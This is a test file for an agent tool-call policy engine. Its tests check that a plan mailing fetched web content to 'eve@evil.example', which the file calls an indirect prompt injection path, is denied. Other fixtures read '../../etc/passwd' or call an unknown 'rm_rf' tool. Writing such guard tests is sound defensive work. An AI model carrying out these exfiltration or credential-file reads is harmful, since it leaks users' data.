import { describe, expect, it } from 'vitest';
import { DEMO_TOOLS } from '../../policies/demo-tools.js';
import { digestJson } from '../../lib/canonical-json.js';
import { extractPlan } from '../plan/index.js';
import { loadDefaultPolicyPack } from '../policy/default-pack.js';
import { compilePolicySet, loadPolicySet } from '../policy/index.js';
import type { AgentIdentity, ExecutionPlan, ToolDefinition } from '../types.js';
import { assessStep } from './index.js';

const pack = loadDefaultPolicyPack();
const tools = new Map(DEMO_TOOLS.map((t) => [t.name, t]));
const now = new Date('2026-03-04T10:15:00Z');
const identity: AgentIdentity = {
  agentId: 'agent-research', tenant: 'demo', capabilities: DEMO_TOOLS.map((t) => t.requiredCapability), actingFor: ['alice'],
  credentialId: 'jti-1', keyId: 'kid-1', expiresAt: '2026-03-05T00:00:00Z',
};

// An untrusted web page is fetched, saved, and then fed into an e-mail to an outside address:
// the classic indirect prompt injection path.
const plan: ExecutionPlan = extractPlan({
  format: 'native',
  goal: 'summarise the news and mail it',
  payload: {
    planId: 'plan-news',
    goal: 'summarise the news and mail it',
    steps: [
      { stepId: 'fetch', tool: 'http_get', args: { url: 'https://example.com/news' } },
      { stepId: 'save', tool: 'write_file', dependsOn: ['fetch'], args: { path: 'news.txt', content: '{{steps.fetch.output.body}}' } },
      { stepId: 'mail', tool: 'send_email', dependsOn: ['fetch'], args: { to: 'eve@evil.example', subject: 'news', body: '{{steps.fetch.output.body}}' } },
    ],
  },
});

const assess = (stepId: string, over: { tool?: ToolDefinition | null; identity?: AgentIdentity; plan?: ExecutionPlan; budget?: { fractionUsed: number; exhausted: boolean } } = {}) => {
  const p = over.plan ?? plan;
  const step = p.steps.find((s) => s.stepId === stepId)!;
  const tool = over.tool === null ? undefined : (over.tool ?? tools.get(step.tool));
  return assessStep({ plan: p, stepId, ...(tool ? { tool } : {}), identity: over.identity ?? identity, ...(over.budget ? { budget: over.budget } : {}), now }, { policy: pack.policySet });
};

describe('assessStep on a plan where untrusted retrieval feeds send_email', () => {
  it('allows the trusted fetch', () => {
    const a = assess('fetch');
    expect(a.decision).toBe('ALLOW');
    expect(a.determiningPolicies).toEqual(['permit-capability-holders']);
    expect(a.reasons).toEqual([{ code: 'POLICY_PERMIT', message: 'the agent holds the capability the tool requires', policyId: 'permit-capability-holders' }]);
    expect(a.tainted).toBe(false);
    expect(a.policySetVersion).toBe(pack.version);
    expect(a.argsDigest).toBe(digestJson({ url: 'https://example.com/news' }));
    expect(a.evaluatedAt).toBe(now.toISOString());
  });

  it('holds the write of fetched content for approval', () => {
    const a = assess('save');
    expect(a.decision).toBe('REQUIRE_APPROVAL');
    expect(a.determiningPolicies).toContain('approve-tainted-write');
    expect(a.reasons.map((r) => r.code)).toEqual(a.determiningPolicies.map(() => 'POLICY_APPROVAL'));
    expect(a.tainted).toBe(true);
    expect(a.taintSources).toEqual(['tool_output:http_get#fetch']);
  });

  it('denies the e-mail built from fetched content, in words', () => {
    const a = assess('mail');
    expect(a.decision).toBe('DENY');
    expect(a.determiningPolicies).toEqual(['forbid-tainted-external']);
    expect(a.reasons[0]).toEqual({
      code: 'POLICY_FORBID',
      message: 'the arguments derive from untrusted content, so the tool may not act outside the system or irreversibly',
      policyId: 'forbid-tainted-external',
    });
    expect(a.risk.factors.length).toBeGreaterThan(0);
    expect(a.risk.score).toBeGreaterThan(assess('fetch').risk.score);
  });

  it('the same e-mail without the tainted body is only held (outside domain)', () => {
    const clean = extractPlan({ format: 'native', payload: { steps: [{ stepId: 'mail', tool: 'send_email', args: { to: 'eve@evil.example', subject: 'hi', body: 'see you' } }] } });
    const a = assess('mail', { plan: clean });
    expect(a.decision).toBe('REQUIRE_APPROVAL');
    expect(a.determiningPolicies).toContain('approve-external-email');
  });
});

describe('assessStep before Cedar', () => {
  it('denies an unknown tool with its reason, still scoring risk', () => {
    const p = extractPlan({ format: 'native', payload: { steps: [{ stepId: 's', tool: 'rm_rf', args: {} }] } });
    const a = assess('s', { plan: p, tool: null });
    expect(a.decision).toBe('DENY');
    expect(a.reasons.map((r) => r.code)).toEqual(['UNKNOWN_TOOL']);
    expect(a.determiningPolicies).toEqual([]);
    expect(a.risk.factors.map((f) => f.code)).toContain('UNKNOWN_TOOL');
  });

  it('denies a missing capability and bad arguments together, without asking Cedar', () => {
    const p = extractPlan({ format: 'native', payload: { steps: [{ stepId: 's', tool: 'read_file', args: { path: '../../etc/passwd', mode: 'r' } }] } });
    const a = assess('s', { plan: p, identity: { ...identity, capabilities: [] } });
    expect(a.decision).toBe('DENY');
    expect(a.reasons.map((r) => r.code)).toEqual(['MISSING_CAPABILITY', 'ARGS_SCHEMA', 'PATH_TRAVERSAL']);
  });

  it('denies every call under a policy set that failed to load', () => {
    const broken = loadPolicySet('@id("x") permit (principal, action, resource) when {');
    const a = assessStep({ plan, stepId: 'fetch', tool: tools.get('http_get')!, identity, now }, { policy: broken });
    expect(a.decision).toBe('DENY');
    expect(a.reasons.map((r) => r.code)).toEqual(['POLICY_SET_INVALID', 'POLICY_ERROR']);
  });

  it('says so when no policy permits', () => {
    const none = compilePolicySet('');
    if (!none.ok) throw new Error('fixture');
    const a = assessStep({ plan, stepId: 'fetch', tool: tools.get('http_get')!, identity, now }, { policy: none.policySet });
    expect(a.reasons).toEqual([{ code: 'NO_PERMIT', message: 'no policy permits this call' }]);
  });

  it('denies at budget exhaustion', () => {
    expect(assess('fetch', { budget: { fractionUsed: 1.2, exhausted: true } }).determiningPolicies).toEqual(['forbid-budget-exhausted']);
  });

  it('throws NOT_FOUND for a step that is not in the plan', () => {
    expect(() => assessStep({ plan, stepId: 'nope', identity, now }, { policy: pack.policySet })).toThrow(/step `nope` is not in the plan `plan-news`/);
  });
});
